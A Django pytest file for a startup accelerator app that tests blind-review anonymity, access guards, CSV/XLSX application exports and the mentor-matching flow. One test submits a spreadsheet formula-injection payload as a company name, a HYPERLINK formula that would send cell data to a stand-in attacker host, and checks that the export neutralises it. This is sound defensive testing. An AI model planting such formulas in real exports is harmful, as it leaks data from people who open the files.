import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from biocampus.accelerator.models import Application, Call
from biocampus.accelerator.services.applications import application_submit
from biocampus.accelerator.services.reviews import reviewer_assign
from biocampus.accelerator.tests.conftest import complete_application
from biocampus.conftest import UserFactory, member

pytestmark = pytest.mark.django_db


def test_blind_review_page_hides_identity_and_pages_are_guarded(client, call, acc_staff):
    Call.objects.filter(pk=call.pk).update(blind=True)
    founder = UserFactory()
    application = application_submit(
        actor=founder, application=complete_application(founder, call, "Secret Bio")
    )
    reviewer, other = UserFactory(), UserFactory()
    reviewer_assign(actor=acc_staff, application=application, reviewer=reviewer)
    client.force_login(reviewer)
    page = client.get(reverse("accelerator:review", args=[application.pk])).content.decode()
    assert "Secret Bio" not in page
    assert "Blind review" in page
    assert "Secret Bio" not in client.get(reverse("accelerator:reviews")).content.decode()
    client.force_login(other)
    assert client.get(reverse("accelerator:review", args=[application.pk])).status_code == 404
    assert client.get(reverse("accelerator:application", args=[application.pk])).status_code == 404
    assert client.get(reverse("accelerator:manage_call", args=[call.pk])).status_code == 403
    assert client.get(reverse("accelerator:manage")).status_code == 403
    client.force_login(acc_staff)
    csv = client.get(reverse("accelerator:manage_call", args=[call.pk]), {"format": "csv"})
    assert "Secret Bio" in csv.content.decode()  # the operator sees who applied


def test_the_applications_export_neutralises_a_formula_company_name(client, call, acc_staff):
    founder = UserFactory()
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    application_submit(actor=founder, application=complete_application(founder, call, evil))
    client.force_login(acc_staff)
    url = reverse("accelerator:manage_call", args=[call.pk])
    body = client.get(url, {"format": "csv"}).content.decode("utf-8-sig")
    (row,) = list(csv.reader(io.StringIO(body)))[1:]
    assert row[1] == "'" + evil
    xlsx = load_workbook(io.BytesIO(client.get(url, {"format": "xlsx"}).content)).active
    cell = xlsx["B2"]
    assert (cell.value, cell.data_type) == (evil, "s")  # text, never a formula
    assert xlsx["C2"].data_type == "s"  # the enterprise number keeps its leading zero
    assert xlsx["C2"].value.startswith("0")


def test_mentor_needs_milestones_and_adjusting(client, call, acc_staff, accelerator):
    founder = UserFactory()
    application = application_submit(
        actor=founder, application=complete_application(founder, call, "Cellula")
    )
    Application.objects.filter(pk=application.pk).update(status="accepted")
    mentor = member(accelerator, "mentor")
    client.force_login(mentor)
    client.post(
        reverse("accelerator:mentor"),
        {"tags": "gmp, ip", "sectors": "cgt", "languages": ["fr"], "capacity": 2},
    )
    assert mentor.mentor_profile.tags == ["gmp", "ip"]
    client.force_login(UserFactory())
    assert (
        client.post(
            reverse("accelerator:mentor"), {"tags": "x", "languages": ["fr"], "capacity": 1}
        ).status_code
        == 403
    )
    client.force_login(founder)
    client.post(
        reverse("accelerator:needs", args=[application.pk]), {"tags": "gmp", "languages": ["fr"]}
    )
    client.post(
        reverse("accelerator:milestones", args=[application.pk]),
        {"title": "GMP pilot batch", "due_on": "2027-06-30"},
    )
    milestone = application.milestones.get()
    client.post(
        reverse("accelerator:milestones", args=[application.pk]),
        {"milestone": milestone.pk, "status": "done"},
    )
    milestone.refresh_from_db()
    assert milestone.status == "done"
    client.force_login(acc_staff)
    client.post(reverse("accelerator:matches_propose", args=[call.pk]))
    match = application.mentor_matches.get()
    assert match.mentor == mentor
    client.post(
        reverse("accelerator:match_adjust", args=[call.pk]),
        {"application": application.pk, "mentor": mentor.pk},
    )
    client.post(reverse("accelerator:matches_confirm", args=[call.pk]))
    assert application.mentor_matches.get().confirmed
